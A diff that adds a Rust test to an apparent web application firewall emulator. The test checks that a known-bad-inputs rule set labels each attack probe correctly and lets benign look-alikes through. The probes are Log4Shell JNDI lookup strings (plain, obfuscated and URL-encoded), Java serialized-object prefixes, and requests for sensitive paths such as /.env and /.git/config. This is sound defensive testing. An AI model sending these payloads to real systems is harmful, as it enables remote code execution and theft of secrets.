@@ -296,4 +296,108 @@ mod tests {
         assert!(ip_list(&format!("{IP_LIST_ARN_PREFIX}../etc"), Some(&dir)).is_none());
         std::fs::remove_dir_all(&dir).ok();
     }
+
+    /// One request of the known-bad-inputs test.
+    struct Probe {
+        method: &'static str,
+        path: &'static str,
+        query: &'static str,
+        header: (&'static str, &'static str),
+        body: &'static str,
+        rule: Option<&'static str>,
+    }
+
+    fn probe(method: &'static str, path: &'static str, rule: Option<&'static str>) -> Probe {
+        Probe {
+            method,
+            path,
+            query: "",
+            header: ("", ""),
+            body: "",
+            rule,
+        }
+    }
+
+    #[test]
+    fn known_bad_inputs_block_their_attacks_and_pass_ordinary_requests() {
+        let acl = acl_with("RampartKnownBadInputsRuleSet", None);
+        let header = |name, value, rule| Probe {
+            header: (name, value),
+            ..probe("GET", "/", rule)
+        };
+        let body = |body, rule| Probe {
+            body,
+            ..probe("POST", "/api", rule)
+        };
+        let probes = [
+            header(
+                "x-api-version",
+                "${jndi:ldap://198.51.100.1/a}",
+                Some("Log4JRCE_HEADER"),
+            ),
+            header(
+                "referer",
+                "${${lower:j}ndi:rmi://x/y}",
+                Some("Log4JRCE_HEADER"),
+            ),
+            Probe {
+                query: "q=%24%7Bjndi%3Adns%3A%2F%2Fx%7D",
+                ..probe("GET", "/search", Some("Log4JRCE_QUERYSTRING"))
+            },
+            body(r#"{"name":"${jndi:ldap://x/a}"}"#, Some("Log4JRCE_BODY")),
+            body(
+                "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
+                Some("JavaDeserializationRCE_BODY"),
+            ),
+            header(
+                "x-data",
+                "rO0ABXNyAA",
+                Some("JavaDeserializationRCE_HEADER"),
+            ),
+            header("host", "localhost:8080", Some("Host_localhost_HEADER")),
+            probe("PROPFIND", "/dav/", Some("PROPFIND_METHOD")),
+            probe("GET", "/.git/config", Some("ExploitablePaths_URIPATH")),
+            probe(
+                "GET",
+                "/app/WEB-INF/web.xml",
+                Some("ExploitablePaths_URIPATH"),
+            ),
+            probe(
+                "GET",
+                "/actuator/heapdump",
+                Some("ExploitablePaths_URIPATH"),
+            ),
+            probe("GET", "/.env", Some("ExploitablePaths_URIPATH")),
+            probe("GET", "/api/environment", None),
+            probe("GET", "/docs/git-guide.html", None),
+            body(r#"{"greeting":"Hello ${name}"}"#, None),
+            header("x-trace", "$amount: 5", None),
+        ];
+        for p in &probes {
+            let mut headers: Vec<(&str, &[u8])> = vec![("user-agent", b"Mozilla/5.0")];
+            if p.header.0 != "host" {
+                headers.push(("host", b"shop.example.com"));
+            }
+            if !p.header.0.is_empty() {
+                headers.push((p.header.0, p.header.1.as_bytes()));
+            }
+            let mut req = Request::new(p.method, p.path, "192.0.2.1".parse().expect("ip"));
+            req.query = p.query;
+            req.headers = &headers;
+            req.body_prefix = p.body.as_bytes();
+            req.body_len = p.body.len() as u64;
+            let v = acl.evaluate(&req);
+            let label = p
+                .rule
+                .map(|r| format!("awswaf:managed:rampart:known-bad-inputs:{r}"));
+            assert_eq!(
+                v.labels.first(),
+                label.as_ref(),
+                "{} {} {:?}",
+                p.method,
+                p.path,
+                p.header
+            );
+        }
+    }
 }
